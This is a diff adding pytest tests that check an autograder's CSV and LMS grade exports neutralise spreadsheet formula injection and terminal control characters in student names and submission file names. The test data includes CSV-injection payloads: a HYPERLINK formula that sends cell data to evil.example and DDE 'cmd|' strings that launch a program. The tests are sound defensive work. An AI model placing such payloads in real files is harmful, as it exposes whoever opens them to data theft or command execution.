@@ -254,3 +254,115 @@ def test_an_export_s_limits_are_per_submission(tmp_path):
     long = json.loads((out / "submission_9002" / "results.json").read_text())["output"]
     assert "has a name no file system takes" in long
     assert "submission_9001" in proc.stderr and "submission_9002" in proc.stderr
+
+
+# -- what reaches a CSV a TA opens in a spreadsheet ------------------------------------------------
+
+# What students put in their names (Gradescope's export carries them as they typed them) and
+# their files' names, as OWASP's CSV-injection guidance lists them, and raw terminal controls.
+HOSTILE_NAMES = {
+    "x1": '=HYPERLINK("https://evil.example/?g="&F3,"Open your regrade")',
+    "x2": "+cmd|' /C calc'!A0",
+    "x3": "-2+3+cmd|' /C calc'!A0",
+    "x4": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "x5": "\tTabbed=1+1",
+    "x6": "Bell\x07 Esc\x1b[31mRed\x1b[0m\rCR",
+}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def assert_spreadsheet_safe(path: Path, numeric_columns=()) -> list[dict]:
+    """No cell starts a formula unless it is a plain number, no control character in the file
+    but its CRLF line ends; every cell of ``numeric_columns`` is empty or a number."""
+    import csv
+    import re
+    raw = path.read_bytes()
+    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", raw), path
+    assert b"\r" not in raw.replace(b"\r\n", b""), path
+    rows = list(csv.reader(raw.decode("utf-8").splitlines()))
+    for row in rows:
+        for cell in row:
+            if cell.lstrip(" ").startswith(FORMULA_START):
+                float(cell)  # "-5.2" is a number, not a formula
+    table = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
+    for r in table:
+        for col in numeric_columns:
+            if r[col] not in ("", "Points Possible"):
+                float(r[col])
+    return table
+
+
+def test_names_that_start_formulas_reach_no_csv_as_formulas(tmp_path):
+    """Gradescope's export with students whose names start formulas (and carry terminal
+    controls), graded twice (a regrade in which every score changes), then exported for
+    Canvas, Moodle and as plain CSV: in grades.csv, regrade_diff.csv and the three import files
+    no cell starts a formula and no control character is left, and what the LMS needs still
+    imports: the header, the ids and emails as they are, every score a number."""
+    import zipfile
+
+    def export(path: Path, example: str) -> Path:
+        meta = {f"submission_{i}": ([sid], "2026-10-01 12:00:00 +00:00") for i, sid in enumerate(HOSTILE_NAMES)}
+        text = forged_metadata(meta)
+        for sid, name in HOSTILE_NAMES.items():
+            text = text.replace(f":name: Student {sid[-1]}\n", ":name: " + json_string(name) + "\n")
+        with zipfile.ZipFile(path, "w") as z:
+            z.writestr("submission_metadata.yml", text)
+            for folder in meta:
+                z.write(EXAMPLES / example, f"{folder}/=cmd|' calc'!A0.ipynb")
+        return path
+
+    policy = tmp_path / "course.toml"
+    policy.write_text(POLICY.replace('roster = "roster.csv"\n', "")
+                      .replace("[assignments.gradient_descent]", '[assignments.gradient_descent]\ntitle = "HW1"'))
+    old, new = tmp_path / "old", tmp_path / "new"
+    for out, example in ((old, "bob_stub.ipynb"), (new, "alice_reference.ipynb")):
+        proc = autograder("grade", "gradient_descent", export(tmp_path / f"{out.name}_export.zip", example),
+                          "--policy", policy, "--out", out, "-q")
+        assert proc.returncode == 0, proc.stderr[-3000:]
+    proc = autograder("report", new, "--compare", old)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert "\x1b" not in proc.stdout + proc.stderr and "\x07" not in proc.stdout + proc.stderr
+    graded = assert_spreadsheet_safe(new / "grades.csv", ["score", "max_score", "raw_score", "late_penalty"])
+    assert sorted(float(r["score"]) for r in graded) == [27.0] * len(HOSTILE_NAMES)
+    diff = assert_spreadsheet_safe(new / "regrade_diff.csv", ["old_score", "new_score", "change", "max_score"])
+    assert {r["student_id"]: (r["old_score"], r["new_score"], r["change"]) for r in diff} == {
+        sid: ("0", "27", "27") for sid in HOSTILE_NAMES}
+    assert {r["student_id"]: r["name"] for r in diff}["x1"] == "'" + HOSTILE_NAMES["x1"]
+    for fmt, ids, scores in (("canvas", "SIS User ID", ["HW1"]), ("moodle", "ID number", ["HW1"]),
+                             ("csv", "student_id", ["raw_score", "late_penalty", "score", "max_score"])):
+        dest = tmp_path / f"{fmt}.csv"
+        proc = autograder("export-grades", new, "--format", fmt, "--to", dest)
+        assert proc.returncode == 0, proc.stderr
+        rows = assert_spreadsheet_safe(dest, scores)
+        students = [r for r in rows if r.get("Student") != "Points Possible"]
+        assert sorted(r[ids] for r in students) == sorted(HOSTILE_NAMES)  # ids as the LMS knows them
+        assert all(float(r[scores[0]]) == 27 for r in students if fmt != "csv")
+        name = "Student" if fmt == "canvas" else "Full name" if fmt == "moodle" else "name"
+        by = {r[ids]: r[name] for r in students}
+        assert by["x1"] == "'" + HOSTILE_NAMES["x1"] and by["x3"] == "'" + HOSTILE_NAMES["x3"]
+        assert by["x5"] == "Tabbed=1+1" and by["x6"] == "Bell Esc[31mRed[0m CR"  # the export strips names
+        if fmt == "moodle":
+            assert sorted(r["Email address"] for r in students) == sorted(f"{s}@example.edu" for s in HOSTILE_NAMES)
+
+
+def json_string(text: str) -> str:
+    """``text`` as a YAML double-quoted scalar (JSON's escapes are YAML's)."""
+    import json
+    return json.dumps(text)
+
+
+def test_file_names_that_start_formulas_reach_grades_csv_as_text(tmp_path):
+    """Submission files named like formulas: graded under their names (the page and folder as
+    they are), and grades.csv shows each name as text."""
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    names = ['=HYPERLINK("https:__evil.example","x")', "+cmd|' calc'!A0", "@SUM(1+9)", "-2+3", "-7"]
+    for name in names:
+        shutil_copy(EXAMPLES / "alice_reference.ipynb", subs / f"{name}.ipynb")
+    out = tmp_path / "out"
+    proc = autograder("grade", "gradient_descent", subs, "--out", out, "-q")
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    rows = assert_spreadsheet_safe(out / "grades.csv", ["score", "max_score"])
+    assert sorted(r["submission"] for r in rows) == sorted("'" + n if n != "-7" else n for n in names)
+    assert all(float(r["score"]) == 27 for r in rows)
+    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == sorted(names)
